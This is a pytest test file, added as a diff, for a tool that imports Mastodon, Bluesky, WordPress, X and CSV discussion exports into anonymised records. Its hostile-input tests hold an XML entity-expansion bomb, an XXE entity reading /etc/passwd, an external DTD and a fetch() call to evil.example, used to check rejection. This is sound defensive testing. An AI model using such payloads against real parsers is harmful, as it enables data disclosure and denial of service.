@@ -1,0 +1,364 @@
+"""Exports of every platform become exactly the records that are expected, and what is hostile becomes a clear error."""
+
+from __future__ import annotations
+
+import json
+import os
+import re
+from pathlib import Path
+from time import process_time
+from typing import TYPE_CHECKING, Any
+
+import pytest
+from click.testing import CliRunner, Result
+
+import zoo_keeper
+from casebuilder import pipeline
+from casebuilder.cli import main
+from casebuilder.editorial.discussion import IMPORTERS
+
+if TYPE_CHECKING:
+    from collections.abc import Sequence
+
+EXPORTS = Path(__file__).parent / "exports"
+CLUB = "2026-04-paper-club"
+RECORD = f"commentary/{CLUB}/discussion.jsonl"
+KEYS = ("author_key", "key_id", "post_key")
+
+
+@pytest.fixture
+def series(tmp_path: Path) -> Path:
+    return zoo_keeper.lay_out("_sound", tmp_path)
+
+
+def imported(series: Path, *words: Path | str, secret: str = "long word") -> Result:  # noqa: S107 - of a test
+    order = ["discussion", "import", CLUB, *map(str, words), "--series", str(series)]
+    result = CliRunner().invoke(main, order, env={"CASEBUILDER_SECRET": secret})
+    assert result.exception is None or isinstance(result.exception, SystemExit), result.exception
+    return result
+
+
+def told(result: Result) -> str:
+    """What is said on the terminal, without the lines that click draws."""
+    return " ".join(re.sub(r"[│╭╮╰╯─]", " ", result.output).split())
+
+
+def record(series: Path) -> list[dict[str, Any]]:
+    place = series / RECORD
+    return [json.loads(line) for line in place.read_text(encoding="utf-8").splitlines()] if place.exists() else []
+
+
+def bare(lines: Sequence[dict[str, Any]]) -> list[dict[str, Any]]:
+    return [{name: value for name, value in line.items() if name not in KEYS} for line in lines]
+
+
+def sources(folder: Path) -> list[Path]:
+    return sorted(path for path in folder.iterdir() if path.name not in {"expected.jsonl", "notes.txt"})
+
+
+def written(series: Path, name: str, content: str | bytes | object) -> Path:
+    place = series.parent / name
+    if isinstance(content, bytes):
+        place.write_bytes(content)
+    else:
+        place.write_text(content if isinstance(content, str) else json.dumps(content), encoding="utf-8")
+    return place
+
+
+# --- every format
+
+
+@pytest.mark.parametrize(
+    "folder", sorted(path for path in EXPORTS.iterdir() if path.is_dir()), ids=lambda path: path.name
+)
+def test_an_export_becomes_exactly_the_record_that_is_expected(series: Path, folder: Path) -> None:
+    result = imported(series, *sources(folder))
+    if os.environ.get("CASEBUILDER_WRITE_EXPECTED"):  # then look at the difference
+        lines = (json.dumps(line, ensure_ascii=False) for line in bare(record(series)))
+        (folder / "expected.jsonl").write_text("".join(f"{line}\n" for line in lines), encoding="utf-8")
+        (folder / "notes.txt").write_text(result.stderr, encoding="utf-8")
+    expected = (folder / "expected.jsonl").read_text(encoding="utf-8").splitlines()
+    assert bare(record(series)) == [json.loads(line) for line in expected]
+    assert result.stderr == (folder / "notes.txt").read_text(encoding="utf-8")
+    assert all(line["key_id"] and line["author_key"] and line["post_key"] for line in record(series))
+    assert not [problem for problem in pipeline.read(series).problems if problem.path == RECORD]
+
+
+#: Of the authors of the exports: names, handles, addresses of mail and of machines, and addresses of posts.
+TRACES = (
+    "Holm", "Ολυμπία", "ward.example>", "@ward.example", "@Ward.example", "203.0.113", "2001:db8", "198.51.100",
+    "ida_h", "gravatar", "@ida", "@ole", "social.example", "other.example", "third.example", "bsky.social",
+    "did:plc", "ole.example", "@series", "oleg", "Олег", "github.com/o/r/discussions", "unknown-one", "1776900000",
+    "1900000000", "x.com/", "twitter.com", "佐藤", "ليلى", "layla",
+)  # fmt: skip
+
+
+@pytest.mark.parametrize(
+    "folder", sorted(path for path in EXPORTS.iterdir() if path.is_dir()), ids=lambda path: path.name
+)
+def test_no_trace_of_an_author_is_in_the_record_and_none_of_mail_or_machine_in_any_file(
+    series: Path, folder: Path
+) -> None:
+    imported(series, *sources(folder))
+    text = (series / RECORD).read_text(encoding="utf-8")
+    assert [trace for trace in TRACES if trace in text] == []
+    people = (series / ".casebuilder/people.jsonl").read_text(encoding="utf-8")
+    assert not re.search(r"[\w.]+@ward\.example|203\.0\.113|2001:db8|198\.51\.100|gravatar", people, re.IGNORECASE)
+
+
+@pytest.mark.parametrize(
+    "folder", sorted(path for path in EXPORTS.iterdir() if path.is_dir()), ids=lambda path: path.name
+)
+def test_what_was_taken_back_comes_back_from_no_importer(
+    series: Path, folder: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.delenv("CASEBUILDER_CACHE")  # whose packs would be deleted
+    imported(series, *sources(folder))
+    before = record(series)
+    gone = before[-1]
+    words = ["withdraw", CLUB, "--contribution", gone["id"], "--series", str(series)]
+    assert CliRunner().invoke(main, words).exit_code == 0
+    after = (series / RECORD).read_bytes()
+    result = imported(series, *sources(folder))
+    assert f"0 added, {len(before)} in the record already" in result.stderr
+    assert (series / RECORD).read_bytes() == after
+    assert [line["text"] for line in record(series) if line["id"] == gone["id"]] == [""]
+
+
+def test_several_networks_come_in_at_once_and_in_the_order_of_time(series: Path) -> None:
+    result = imported(
+        series, *(path for name in ("mastodon", "bluesky", "wordpress") for path in sources(EXPORTS / name))
+    )
+    assert result.exit_code == 0
+    lines = record(series)
+    assert {line["channel"] for line in lines} == {"mastodon", "bluesky", "site"}
+    assert [line["id"] for line in lines] == [f"c{number:02}" for number in range(1, len(lines) + 1)]
+    assert len({line["author"] for line in lines}) == 10
+
+
+def test_names_are_kept_when_somebody_says_so(series: Path) -> None:
+    assert imported(series, *sources(EXPORTS / "mastodon"), "--names", "keep").exit_code == 0
+    first, second, third, *_ = record(series)
+    assert (first["author"], first["url"]) == ("Teaching Dilemmas", "https://social.example/@series/500")
+    assert "@series@social.example We rang" in second["text"]
+    assert "@ida@other.example @ida@third.example I ask that" in third["text"]
+
+
+def test_a_second_import_adds_what_is_new_and_keeps_what_a_curator_wrote(series: Path) -> None:
+    first, *_ = pipeline.read(series).series.cases[1].questions
+    thread = json.loads((EXPORTS / "bluesky/thread.json").read_text(encoding="utf-8"))
+    replies = thread["thread"]["replies"]
+    thread["thread"]["replies"] = []
+    imported(series, written(series, "a.json", thread))
+    (line,) = record(series)
+    kept = json.dumps({**line, "question": first.id, "role": "nurse", "country": "DK"}, ensure_ascii=False)
+    (series / RECORD).write_text(f"{kept}\n", encoding="utf-8")
+    thread["thread"]["replies"] = replies
+    result = imported(series, written(series, "a.json", thread))
+    assert "2 added, 1 in the record already" in result.stderr
+    lines = (series / RECORD).read_text(encoding="utf-8").splitlines()
+    assert lines[0] == kept
+    assert [(one["id"], one.get("in_reply_to")) for one in record(series)] == [
+        ("c01", None),
+        ("c02", "c01"),
+        ("c03", "c02"),
+    ]
+
+
+def test_a_context_that_comes_later_finds_the_post_that_it_answers(series: Path) -> None:
+    imported(series, EXPORTS / "mastodon/status.json")
+    imported(series, EXPORTS / "mastodon/context.json")
+    assert record(series)[1]["in_reply_to"] == "c01"
+
+
+def test_one_thread_of_a_whole_site_is_chosen_by_its_title_or_address(series: Path) -> None:
+    text = (EXPORTS / "wordpress/export.xml").read_text(encoding="utf-8")
+    item = text[text.index("\t<item>") : text.index("</item>") + 7]
+    other = item.replace("late-handover", "other").replace("The Late Handover", "Another").replace(">57<", ">58<")
+    file = written(series, "site.xml", text.replace("</channel>", f"{other}</channel>"))
+    assert "comments below 2 pages were read: “The Late Handover”, “Another”" in imported(series, file).stderr
+    assert len(record(series)) == 6
+    (series / RECORD).unlink()
+    assert imported(series, file, "--thread", "late handover").exit_code == 0
+    assert len(record(series)) == 3
+    assert 'no page has "nothing such"' in told(imported(series, file, "--thread", "nothing such"))
+
+
+# --- shapes
+
+
+def status(number: int, parent: int | None = None, **more: object) -> dict[str, object]:
+    name = more.pop("name", f"u{number}")
+    return {
+        "id": str(number),
+        "created_at": f"2026-04-07T09:{number % 60:02}:00.000Z",
+        "in_reply_to_id": None if parent is None else str(parent),
+        "visibility": "public",
+        "uri": f"https://s.example/users/{name}/statuses/{number}",
+        "url": f"https://s.example/@{name}/{number}",
+        "content": f"<p>Post {number}</p>",
+        "account": {"username": name, "acct": name, "display_name": "", "url": f"https://s.example/@{name}"},
+        **more,
+    }
+
+
+def test_threads_of_twenty_and_of_two_hundred_replies_keep_their_parents(series: Path) -> None:
+    chain = [status(number, number - 1 if number else None) for number in range(20)]
+    assert imported(series, written(series, "m.json", chain)).exit_code == 0
+    assert [line.get("in_reply_to") for line in record(series)] == [None, *(f"c{n:02}" for n in range(1, 20))]
+    (series / RECORD).unlink()
+    node: dict[str, Any] = {}
+    for number in range(200, 0, -1):
+        post = {
+            "uri": f"at://did:plc:{number}/app.bsky.feed.post/{number}",
+            "author": {"did": f"did:plc:{number}", "handle": f"u{number}.example"},
+            "record": {"text": f"Post {number}", "createdAt": f"2026-04-07T{number // 60:02}:{number % 60:02}:00Z"},
+        }
+        if number > 1:
+            parent = f"at://did:plc:{number - 1}/app.bsky.feed.post/{number - 1}"
+            post["record"]["reply"] = {"parent": {"uri": parent}}  # type: ignore[index]
+        node = {"$type": "app.bsky.feed.defs#threadViewPost", "post": post, "replies": [node] if node else []}
+    assert imported(series, written(series, "b.json", {"thread": node})).exit_code == 0
+    assert [line.get("in_reply_to") for line in record(series)] == [None, *(f"c{n:02}" for n in range(1, 200))]
+
+
+@pytest.mark.parametrize(
+    "date",
+    ["2026-04-07T09:12:00Z", "2026-04-07T09:12:00.123Z", "2026-04-07T09:12:00.123456789Z", "2026-04-07T11:12:00+02:00",
+     "2026-04-07 09:12:00 UTC", "Tue, 07 Apr 2026 09:12:00 +0000", "Tue Apr 07 09:12:00 +0000 2026",
+     "2026-04-07T04:12:00-05:00", "20260407T091200Z", "Apr 7, 2026, 9:12:00 AM UTC", "7 April 2026 09:12 GMT",
+     "2026-04-07T09:12Z"],
+)  # fmt: skip
+def test_dates_in_twelve_shapes_are_one_instant(series: Path, date: str) -> None:
+    result = imported(series, written(series, "m.json", [status(1, created_at=date)]))
+    assert result.exit_code == 0, result.output
+    from datetime import UTC, datetime
+
+    moment = datetime.fromisoformat(record(series)[0]["posted"])
+    assert moment.astimezone(UTC) == datetime(2026, 4, 7, 9, 12, tzinfo=UTC)
+
+
+def test_one_bad_record_is_reported_with_its_place_and_the_others_come_in(series: Path) -> None:
+    posts = [status(1), status(2, created_at="last week"), status(3, content=""), status(4, 2)]
+    file = written(series, "m.json", json.dumps(posts, indent=1))
+    result = imported(series, file)
+    assert result.exit_code == 1
+    assert "1 left out" not in result.stderr
+    assert "2 added, 0 in the record already, 2 left out" in result.stderr
+    places = re.findall(r"^m\.json:(\d+):1: error: (.*) \[", result.stdout, re.MULTILINE)
+    lines = file.read_text().splitlines()
+    assert [lines[int(line) - 1].strip() for line, _ in places] == ['"id": "2",', '"id": "3",']
+    assert [message for _, message in places] == ['"2": "last week" is not a date', '"3": the post has no words']
+    assert [(line["text"], line["kind"], line.get("in_reply_to")) for line in record(series)] == [
+        ("Post 1", "original", None),
+        ("Post 4", "reply", None),
+    ]
+
+
+def test_marks_that_turn_the_line_and_invisible_ones_are_gone_and_emoji_stay(series: Path) -> None:
+    turned = status(1, content="<p>abc\u202edef\u2066 \u0000👩‍⚕️ 🏴󠁧󠁢󠁥󠁮󠁧󠁿 שלום\u200f!</p>")
+    turned["account"] = {
+        "username": "a\u202eb",
+        "acct": "ab",
+        "display_name": "A\u202e\x07B",
+        "url": "https://s.example/@ab",
+    }
+    assert imported(series, written(series, "m.json", [turned]), "--names", "keep").exit_code == 0
+    (line,) = record(series)
+    assert (line["author"], line["text"]) == ("AB", "abcdef 👩‍⚕️ 🏴󠁧󠁢󠁥󠁮󠁧󠁿 שלום\u200f!")
+
+
+def test_the_same_post_from_a_table_and_from_its_network_comes_in_once(series: Path) -> None:
+    words = "We rang because nobody had told us that we could."
+    table = f'author,address,posted,text,channel\nIda,@u1@s.example,2026-04-07T09:01:00Z,"{words}",mastodon\n'
+    file = written(series, "m.json", [status(1, content=f"<p>{words}</p>")])
+    assert imported(series, written(series, "t.csv", table), file).exit_code == 0
+    assert len(record(series)) == 1
+    assert record(series)[0]["post_key"]
+
+
+# --- what is hostile
+
+
+XML = '<rss xmlns:wp="http://wordpress.org/export/1.2/"><channel/></rss>'
+BOMB = "".join(f'<!ENTITY a{n} "&a{n - 1};&a{n - 1};&a{n - 1};&a{n - 1};">' for n in range(1, 30))
+
+
+@pytest.mark.parametrize(
+    ("name", "content", "message"),
+    [
+        ("x.xml", f'<!DOCTYPE r [<!ENTITY a0 "ha">{BOMB}]>{XML}', "declares a document type or entities"),
+        ("x.xml", f'<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>{XML}', "declares a document type"),
+        ("x.xml", f'<!DOCTYPE rss SYSTEM "http://evil.example/x.dtd">{XML}', "declares a document type or entities"),
+        ("x.xml", XML.replace("<channel/>", "<channel>" + "<a>" * 10_000), "stand within each other"),
+        ("x.xml", XML.replace("</rss>", ""), "not whole XML"),
+        ("x.xml", XML.replace("<channel/>", "<channel>&nbsp;</channel>"), "not whole XML"),
+        ("x.json", "[" * 10_000, "more than 600 lists stand within each other"),
+        ("x.json", '{"ancestors": ' + "[" * 10_000 + "]" * 10_000 + "}", "more than 600 lists stand within each other"),
+        ("x.json", '{"a":' * 10_000, "more than 600 lists stand within each other"),
+        ("x.json", '{"id": ' + "1" * 5_000 + "}", "not JSON as programs write it"),
+        ("x.json", '{"id": NaN}', "not JSON as programs write it"),
+        ("x.json", '{"ancestors": [], "descendants": [{"id": "1"', "ends in the middle"),
+        ("x.json", '{"errors": [{"message": "Bad credentials"}]}', "with the names errors"),
+        ("x.json", "[]", "with nothing in it"),
+        ("x.js", "window.YTD.deleted_tweets.part0 = []", "the part “deleted_tweets” of an archive of X"),
+        ("x.js", "window.YTD.tweets.part0 = alert(1)", "after window.YTD.tweets stands no list"),
+        ("x.html", "<!DOCTYPE html><html><body>Hi</body></html>", "XML or HTML that no importer knows"),
+        ("x.bin", b"\x1f\x8b\x08", "a compressed file; unpack it first"),
+        ("x.json", '{"a": "é"}'.encode("cp1252") + b"\x81", "its letters cannot be read"),
+        ("x.json", '{"a": 1}'.encode("utf-16"), "with the names a"),
+    ],
+)  # fmt: skip
+def test_what_is_hostile_or_broken_gives_a_clear_error(
+    series: Path, name: str, content: str | bytes, message: str
+) -> None:
+    begun = process_time()
+    result = imported(series, written(series, name, content))
+    assert (result.exit_code, record(series)) == (2, [])
+    assert message in told(result)
+    assert process_time() - begun < 3
+
+
+def test_a_huge_line_is_a_problem_of_its_post_alone(series: Path) -> None:
+    posts = [status(1), status(2, content="<p>" + "word " * 20_000 + "</p>"), status(3, content="<b>" * 50_000 + "x")]
+    result = imported(series, written(series, "m.json", posts))
+    assert "the post has 99,999 characters; at most 66,000 are read" in result.stdout
+    assert [line["text"] for line in record(series)] == ["Post 1", "x"]
+    assert not pipeline.read(series).errors()
+
+
+def test_other_encodings_are_read_and_said(series: Path) -> None:
+    text = (EXPORTS / "wordpress-1.0/export.xml").read_text(encoding="utf-8").replace("Second", "Naïve")
+    assert imported(series, written(series, "a.xml", text.encode("utf-16"))).exit_code == 0
+    assert record(series)[0]["text"].endswith("Naïve line.")
+    (series / RECORD).unlink()
+    result = imported(series, written(series, "a.xml", text.encode("cp1252")))
+    assert "read as windows-1252" in result.stderr
+    assert record(series)[0]["text"].endswith("Naïve line.")
+
+
+def test_an_archive_of_x_is_never_run(series: Path) -> None:
+    text = (EXPORTS / "x-archive/tweets.js").read_text(encoding="utf-8")
+    result = imported(series, written(series, "t.js", f"{text};fetch('http://evil.example')"))
+    assert "not JSON as programs write it" in result.stdout
+    assert len(record(series)) == 3
+
+
+@pytest.mark.parametrize("name", ["mastodon", "table"])
+def test_five_thousand_contributions_take_no_time(series: Path, name: str) -> None:
+    """The goal is three seconds of a whole command; other formats are timed by the bench."""
+    words = "the handover was late and nobody rang because ringing costs " * 6
+    posts = [status(n, n // 2 or None, content=f"<p>{words} {n}</p>", name=f"u{n % 900}") for n in range(1, 5_001)]
+    rows = "".join(f"U{n % 900},2026-04-07T09:{n % 60:02}:00Z,{words} {n}\n" for n in range(5_000))
+    content = posts if name == "mastodon" else f"author,posted,text\n{rows}"
+    file = written(series, f"{name}.txt", content)
+    begun = process_time()
+    assert imported(series, file, "--channel", "site").exit_code == 0
+    assert process_time() - begun < 6  # twice the goal: the machine has other work
+    assert len(record(series)) == 5_000
+
+
+def test_the_table_of_importers_names_each_once() -> None:
+    assert len({one.name for one in IMPORTERS}) == len(IMPORTERS)
+    folder = Path(pipeline.__file__).parent.parent / "editorial/discussion/importers"
+    assert len(IMPORTERS) == len([path for path in folder.glob("*.py") if path.name != "__init__.py"])
